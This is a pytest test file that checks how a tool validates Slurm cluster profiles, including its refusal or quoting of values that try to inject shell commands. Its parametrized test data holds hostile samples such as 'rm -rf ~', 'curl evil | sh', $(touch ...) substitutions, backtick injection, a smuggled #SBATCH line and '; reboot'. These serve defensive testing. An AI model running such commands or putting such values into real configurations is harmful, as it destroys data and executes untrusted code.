"""Cluster profiles: the committed example loads; bad profiles fail with a ConfigError that
names the problem; values that could inject shell text are refused or quoted."""

from __future__ import annotations

import shlex
import subprocess
from pathlib import Path

import pytest

from canzona.errors import ConfigError
from canzona.sweep.profile import load_profile, parse_profile

ROOT = Path(__file__).resolve().parents[1]
BASE = {"partition": "gpu", "gpus_per_node": 8, "account": "proj"}


def prof(**over):
    t = dict(BASE)
    t.update(over)
    return parse_profile({"cluster": {k: v for k, v in t.items() if v is not None}}, "p.toml")


def test_example_profile_loads_and_fits_256_gpus():
    p = load_profile(ROOT / "slurm/profiles/example.toml")
    assert p.partition and p.gpus_per_node == 8
    assert p.nodes_for(256) == 32


def test_missing_partition_is_a_clear_error():
    with pytest.raises(ConfigError, match="partition"):
        prof(partition=None)


def test_gpus_per_node_not_dividing_world_is_a_clear_error():
    p = prof(gpus_per_node=6)
    with pytest.raises(ConfigError, match="gpus_per_node = 6 does not divide the world size 256"):
        p.nodes_for(256)


@pytest.mark.parametrize(
    "key,value",
    [
        ("partition", "gpu\nrm -rf ~"),
        ("partition", "gpu; curl evil | sh"),
        ("account", "proj $(touch /tmp/pwned)"),
        ("qos", "normal`id`"),
        ("constraint", "h100\n#SBATCH --nodes=1000"),
        ("mem", "0; reboot"),
        ("name", "x y"),
    ],
)
def test_directive_values_with_shell_text_are_refused(key, value):
    with pytest.raises(ConfigError, match=key):
        prof(**{key: value})


@pytest.mark.parametrize(
    "over,match",
    [
        ({"modules": ["cuda/12.4; rm -rf ~"]}, "module name"),
        ({"env": {"BAD KEY": "1"}}, "env key"),
        ({"env": {"X": "a\nb"}}, "env.X"),
        ({"env": {"RANK": "0"}}, "launcher"),
        ({"venv": "/opt/venv\nrm -rf ~"}, "venv"),
        ({"gpus_per_node": 0}, "gpus_per_node"),
        ({"gpus_per_node": "8"}, "gpus_per_node must be int"),
        ({"setup": ["echo hi"]}, "unknown key"),
        ({"exclusive": "yes"}, "exclusive must be bool"),
    ],
)
def test_bad_values_are_clear_errors(over, match):
    with pytest.raises(ConfigError, match=match):
        prof(**over)


def test_setup_values_are_quoted_not_pasted(tmp_path):
    marker = tmp_path / "pwned"
    p = prof(
        modules=["cuda/12.4", "nccl"],
        venv=f"/opt/my venv/$(touch {marker})",
        workdir="/work/it's here",
        env={"NCCL_DEBUG": "WARN", "EVIL": f"$(touch {marker}); `touch {marker}`"},
    )
    lines = p.setup_lines()
    assert lines[0] == "module load cuda/12.4 nccl"
    assert lines[1] == "source " + shlex.quote(f"/opt/my venv/$(touch {marker})/bin/activate")
    # Run the export lines in a real shell: the value arrives verbatim, nothing is executed.
    script = "\n".join(lines[3:]) + '\nprintf %s "$EVIL"'
    out = subprocess.run(["bash", "-c", script], capture_output=True, text=True, check=True).stdout
    assert out == f"$(touch {marker}); `touch {marker}`"
    assert not marker.exists()


def test_yaml_profiles_point_to_toml(tmp_path):
    f = tmp_path / "site.yaml"
    f.write_text("cluster: {}\n")
    with pytest.raises(ConfigError, match="TOML"):
        load_profile(f)
